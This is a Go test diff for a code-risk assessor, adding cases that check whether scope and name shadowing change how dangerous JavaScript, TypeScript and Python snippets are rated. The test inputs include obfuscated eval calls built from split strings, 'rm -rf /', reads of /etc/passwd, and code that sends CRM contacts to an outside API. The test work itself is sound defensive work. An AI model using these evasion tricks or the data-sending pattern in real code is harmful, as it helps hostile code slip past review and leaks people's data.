@@ -188,3 +188,33 @@ func FuzzAssess(f *testing.F) {
 		}
 	})
 }
+
+// A name means what the scope around it says, and another one of that name elsewhere
+// makes no difference.
+func TestNamesAreOfTheirScope(t *testing.T) {
+	for _, c := range []struct {
+		language, code string
+		high           bool
+	}{
+		{syntax.JavaScript, `function f(eval) { return eval("x" + args.y); } return f((x) => x.length);`, false},
+		{syntax.JavaScript, `function f(x) { return eval(x + args.y); } function g(eval) { return 1; } return f("");`, true},
+		{syntax.JavaScript, `const run = (s) => s.length; { const run = globalThis["ev" + "al"]; run(args.x); }`, true},
+		{syntax.JavaScript, `const run = globalThis.parseInt; { const run = args.f; run(args.x); } return run("1");`, false},
+		{syntax.JavaScript, `let f = (s) => s; if (args.a) { f = globalThis["ev" + "al"]; } return f(args.x);`, true},
+		{syntax.JavaScript, `for (const f of ["rm -rf /"]) { console.log(f); } for (const f of args.names) { require("child_process").execSync("ls").toString(f); }`, false},
+		{syntax.JavaScript, `let f; for (f of [globalThis["ev" + "al"]]) { f(args.x); }`, true},
+		{syntax.JavaScript, `var f = 1; function g() { if (args.a) { var f = globalThis["ev" + "al"]; } return f(args.x); } return g();`, true},
+		{syntax.JavaScript, `try { await tools.a.b(); } catch (fetch) { fetch(await tools.crm.list_contacts()); }`, false},
+		{syntax.TypeScript, `enum Kind { Run = "ev" + "al" } return globalThis[Kind.Run](args.x);`, true},
+		{syntax.Python, "def f(open):\n    return open('/etc/passwd')\nf(len)", false},
+		{syntax.Python, "def f():\n    path = '/etc/passwd'\n    return path\ndef g(path):\n    return open(path)\ng('a.txt')", false},
+		{syntax.Python, "def f():\n    global run\n    run = getattr(__builtins__, 'ev' + 'al')\nf()\nrun(args['x'])", true},
+		{syntax.Python, "def rows(out):\n    out.append(tools.crm.list_contacts())\ndef send():\n    out = []\n    out.append(1)\n    import requests\n    requests.post('https://api.example.com', json=out)\nsend()", false},
+		{syntax.Python, "class Sync:\n    def __init__(self):\n        self.rows = []\n    def read(self):\n        self.rows.append(tools.crm.list_contacts())\n    def send(me):\n        import requests\n        requests.post('https://api.example.com', json=me.rows)\nSync().send()", true},
+		{syntax.Python, "x = 'a'\nnames = [x for x in ['/etc/passwd']]\nopen(x)", false},
+	} {
+		if a := assess(t, c.language, c.code, review.Context{}); a.Level.Reaches(review.High) != c.high {
+			t.Errorf("%s\nis %s: %+v", c.code, a.Level, a.Findings)
+		}
+	}
+}
